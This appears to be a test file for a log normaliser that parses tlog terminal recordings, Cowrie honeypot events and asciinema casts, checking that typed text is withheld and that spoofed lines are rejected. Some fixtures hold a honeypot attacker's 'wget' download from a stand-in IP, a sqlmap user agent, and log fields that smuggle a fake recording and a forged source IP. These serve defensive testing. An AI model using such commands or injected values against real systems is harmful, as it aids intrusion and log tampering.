import { describe, expect, test } from "vitest";
import { prepare, type Reading } from "../../prepare.ts";
import { normalise } from "../index.ts";
import { unreadRecording } from "./unread.ts";
import { binOf, INTERVAL_BINS, INTERVAL_EDGES_MS } from "./strokes.ts";
import { readTiming } from "./timing.ts";

const now = new Date("2026-03-02T00:00:00Z");
const options = { format: "auto", sensorKind: "custom", now } as const;
const record = (more: object = {}): Record<string, unknown> => ({
  ver: "2.3",
  host: "web1.example",
  rec: "0c8f-1-2",
  user: "alice",
  term: "xterm",
  session: 324,
  id: 23,
  pos: 345_349,
  time: 1_772_359_200.25,
  timing: "=80x24<1+120<1+80[1/2+90<1+3>30+6]1/4+500<5",
  in_txt: "CANARY",
  in_bin: [67, 65],
  out_txt: "CANARY-out",
  out_bin: [],
  ...more,
});
function read(line: string, format: "auto" | "json" | "sshd" = "auto") {
  const found = normalise(line, { ...options, format });
  if (!found.ok) throw new Error(found.reason);
  return found.event;
}

describe("a record of tlog", () => {
  test("becomes counts of keys and of the time between them", () => {
    const { action, time, user, session, fields, ecs } = read(JSON.stringify(record()));
    expect({ action, time: time.toISOString(), user, session }).toEqual({
      action: "terminal.input",
      time: "2026-03-01T10:00:00.250Z",
      user: "alice",
      session: "0c8f-1-2",
    });
    expect(ecs).toMatchObject({ "terminal.keys": 4, "terminal.pasted_chars": 5, "terminal.bursts": 1 });
    expect(fields).toMatchObject({ "terminal.first_ms": 345_349, "terminal.sum_ms": 290 });
    const { "terminal.intervals": intervals } = fields;
    expect((intervals as number[])[binOf(120)]).toBe(1);
    expect((intervals as number[]).reduce((sum, one) => sum + one, 0)).toBe(3);
  });

  const wrapped = {
    "as it is": (json: string) => json,
    "in syslog": (json: string) => `Mar  1 10:00:00 web1 tlog-rec-session[77]: ${json}`,
    "in the journal": (json: string) => JSON.stringify({ MESSAGE: json, __REALTIME_TIMESTAMP: "1772359200250000" }),
    "by a shipper": (json: string) =>
      JSON.stringify({ log: `<14>Mar  1 10:00:00 web1 tlog: ${json}`, src_ip: "203.0.113.7" }),
    "as an object": (json: string) => `{"tlog":${json},"source":{"ip":"203.0.113.7"}}`,
  };
  test.each(Object.entries(wrapped))(
    "is read %s, whatever the format of the sender is, and keeps no text",
    (_name, wrap) => {
      for (const format of ["auto", "json", "sshd"] as const) {
        const event = read(wrap(JSON.stringify(record())), format);
        expect(event.action).toBe("terminal.input");
        expect(JSON.stringify(event)).not.toMatch(/CANARY|67,65/);
        expect(event.fields).toEqual(JSON.parse(event.raw));
      }
    },
  );

  test("is read as the command sends it of a recording of Cowrie", () => {
    const sent = { rec: "9f86d0", id: 1, pos: 1_000, time: 1_772_359_201, timing: "<1+120<1+180<13", closed: true };
    expect(read(JSON.stringify(sent))).toMatchObject({ action: "terminal.input", session: "9f86d0" });
  });

  test("says where it comes from if its shipper does", () => {
    expect(read(wrapped["by a shipper"](JSON.stringify(record()))).src?.ip).toBe("203.0.113.7");
    expect(read(wrapped["as an object"](JSON.stringify(record()))).src?.ip).toBe("203.0.113.7");
  });
});

const READING: Reading = {
  sensor: { id: "snr_00000000-0000-5000-8000-000000000001", name: "s", kind: "custom", metadata: {} } as never,
  actor: { kind: "system", id: "test", name: "test" },
  options: { format: "auto" },
  identity: "a batch",
  ref: undefined,
  firstLine: 0,
};

describe("a recording nobody can read", () => {
  const reading = READING;
  const whole = JSON.stringify(record());
  const broken = {
    "cut off": whole.slice(0, -9),
    "too long": JSON.stringify(record({ in_txt: `CANARY${"x".repeat(70_000)}` })),
    "with a broken timing": JSON.stringify(record({ timing: "<1+-5<1" })),
    "with numbers nobody types": JSON.stringify(record({ timing: `+${"9".repeat(12)}<1`.repeat(3) })),
    "with a number beyond all digits": JSON.stringify(record({ timing: `<${"9".repeat(400)}` })),
    "before its beginning": JSON.stringify(record({ pos: -1 })),
    "of no place": JSON.stringify(record({ id: "x" })),
    "in a wrapper, cut off": JSON.stringify({ MESSAGE: whole }).slice(0, -9),
    "cut off, in a whole wrapper": JSON.stringify({ MESSAGE: whole.slice(0, -9) }),
    "an event of asciinema": '[0.248848, "i", "CANARY"]',
    "an event of asciinema, cut off": '[12,"i","CANARY',
    "asciinema's first version": '{"version": 1, "width": 80, "height": 24, "stdout": [[0.1, "CANARY"]]}',
    "a piece of Cowrie's": `x${"\u0003".concat("\u0000".repeat(7))}\u0006CANARY`,
  };
  test.each(Object.entries(broken))("%s is refused, and nothing that was typed is kept with it", (_name, text) => {
    const prepared = prepare({ text, place: 0 }, reading, now);
    if (!("rejected" in prepared)) throw new Error("was taken");
    expect(Buffer.from(prepared.rejected.raw, "hex").toString()).toBe("(withheld: text of a terminal recording)");
    expect(prepared.rejected.raw_bytes).toBe(Buffer.byteLength(text));
    expect(prepared.rejected.reason).not.toContain("CANARY");
  });

  test("one that is read keeps neither its bytes nor an id made of them", () => {
    const idOf = (typed: string) => {
      const line = JSON.stringify(record({ in_txt: typed }));
      const prepared = prepare({ text: line, exact: Buffer.from(line), place: 0 }, reading, now);
      if (!("row" in prepared)) throw new Error("was refused");
      expect(prepared.row.raw_exact).toBeNull();
      return prepared.row.id;
    };
    expect(idOf("one")).toBe(idOf("another"));
  });
});

const RECORD = '{"timing":"+1<1","rec":"x","id":1,"pos":0,"in_txt":"y"}';
const HIDERS = {
  "a command at a decoy": JSON.stringify({
    eventid: "cowrie.command.input",
    timestamp: "2026-03-01T10:00:00Z",
    src_ip: "203.0.113.7",
    input: `wget http://198.51.100.9/x #${RECORD}`,
    message: `CMD: wget http://198.51.100.9/x #${RECORD}`,
  }),
  "a path": `203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] "GET /timing?\\"in_txt\\" HTTP/1.1" 404 1 "-" "sqlmap"`,
  "a name tried at a decoy": JSON.stringify({
    eventid: "cowrie.login.failed",
    timestamp: "2026-03-01T10:00:00Z",
    src_ip: "203.0.113.7",
    username: '{timing-in_txt"',
    password: "x",
    message: 'login attempt [{timing-in_txt"/x] failed',
  }),
  "data of a tunnel": JSON.stringify({
    eventid: "cowrie.direct-tcpip.data",
    timestamp: "2026-03-01T10:00:00Z",
    src_ip: "203.0.113.7",
    data: RECORD,
    message: RECORD,
  }),
  "what an application repeats": JSON.stringify({
    timestamp: "2026-03-01T10:00:00Z",
    type: "http_request",
    src_ip: "203.0.113.7",
    message: `GET /?timing={"timing":"","rec":"x","id":1,"pos":0,"src_ip":"8.8.8.8","in_txt":"`,
  }),
  "what an application repeats and nothing else": JSON.stringify({
    timestamp: "2026-03-01T10:00:00Z",
    src_ip: "203.0.113.7",
    message: RECORD,
  }),
  "a user name": `Mar  1 10:00:00 gate sshd[9]: Failed password for invalid user tlog: ${RECORD} from 203.0.113.7 port 4000 ssh2`,
};
test.each(Object.entries(HIDERS))("%s that looks like a recording hides nothing", (_name, line) => {
  const event = read(line);
  expect(event.action).not.toBe("terminal.input");
  expect(event.src?.ip).toBe("203.0.113.7");
  expect(event.raw).toContain("timing");
});

describe("what is no recording by its form", () => {
  const TYPED = {
    "without timing": { rec: "r", id: 1, pos: 0, in_txt: "CANARY", in_bin: [67] },
    "flattened by a shipper": { tlog_rec: "r", tlog_timing: "<6", tlog_in_txt: "CANARY", "tlog.out_txt": "CANARY" },
    "with a timing that is no text": { rec: "r", timing: 5, deep: [{ in_txt: "CANARY" }] },
  };
  test.each(Object.entries(TYPED))("%s is kept without what stands under those names", (_name, json) => {
    const prepared = prepare(
      { text: JSON.stringify({ timestamp: "2026-03-01T10:00:00Z", action: "x", ...json }), place: 0 },
      { ...READING },
      now,
    );
    expect(JSON.stringify(prepared)).not.toMatch(/CANARY|67/);
    expect(prepared).toMatchObject({ row: { action: "x", raw: expect.stringContaining("***") } });
  });

  test.each([
    ["the rest of a record that syslog cut in two", 'Mar  1 10:00:00 web1 tlog-rec-session[7]: CANARY","in_bin":[]}'],
    ["what a program of that name says otherwise", '<14>Mar  1 10:00:00 web1 tlog-rec: {"in_txt":"CANARY"}'],
  ])("%s is refused without its text", (_name, text) => {
    const prepared = prepare({ text, place: 0 }, READING, now);
    expect(prepared).toMatchObject({ rejected: { reason: expect.stringContaining("terminal recording") } });
  });

  test("whoever writes a record says nothing of where they are", () => {
    const { src } = read(`Mar  1 10:00:00 web1 tlog: ${JSON.stringify(record({ src_ip: "8.8.8.8" }))}`);
    expect(src).toBeNull();
  });
});

describe("a body that is a recording", () => {
  const header = (operation: number): Buffer => {
    const bytes = Buffer.alloc(24);
    bytes.writeInt32LE(operation, 0);
    return bytes;
  };
  test.each([
    ["Cowrie", Buffer.concat([header(1), header(3), Buffer.from("CANARY")]), /tyr import/],
    ["Cowrie, from its middle", Buffer.concat([header(3), Buffer.from("CANARY")]), /tyr import/],
    ["asciinema", Buffer.from('\uFEFF{"version": 2, "width": 80, "height": 24}\n[1.5, "i", "CANARY"]'), /asciinema/],
    [
      "asciinema's third version",
      Buffer.from('{"version":3,"term":{"cols":80,"rows":24}}\n[1, "i", "C"]'),
      /asciinema/,
    ],
    ["asciinema, from its middle", Buffer.from('[1.5, "i", "CANARY"]\n[1.6, "o", "CANARY"]'), /asciinema/],
  ])("by %s is told from a log", (_name, body, said) => {
    expect(unreadRecording(body)).toMatch(said);
    expect(unreadRecording(body)).not.toContain("CANARY");
  });
  test.each([
    "",
    "[1,2]",
    '{"version":2}',
    '{"version":"1.1","host":"a"}',
    "[2026-02-01 10:00:00] a",
    "\u0001 a\u0000",
  ])("is not %j", (body) => expect(unreadRecording(Buffer.from(body))).toBeUndefined());
});

test("JSON with a member of that name that is no recording is read as before", () => {
  expect(read('{"timestamp":"2026-03-01T10:00:00Z","timing":"12ms","action":"x"}').action).toBe("x");
});

describe("timing", () => {
  test("of output and windows alone has no keys", () => {
    expect(readTiming("=80x24+5>100]3/4", 0)).toMatchObject({ keys: 0, pasted: 0, firstMs: null, lastMs: null });
  });
  test("takes what came at one moment for one read", () => {
    expect(readTiming("<1[1/3<1+0<2", 0)).toMatchObject({ keys: 0, pasted: 7, bursts: 1 });
  });
  test("counts no interval over what was pasted", () => {
    expect(readTiming("<1+100<90+100<1", 0)).toMatchObject({ keys: 2, pasted: 90, sumMs: 0 });
  });
  test("puts every interval into the one bin between whose edges it is", () => {
    const bins = [0, ...INTERVAL_EDGES_MS].map(binOf);
    expect(bins).toEqual(Array.from({ length: INTERVAL_BINS }, (_none, bin) => bin));
    expect(INTERVAL_EDGES_MS.map((edge) => binOf(edge - 1))).toEqual(bins.slice(0, -1));
  });
});
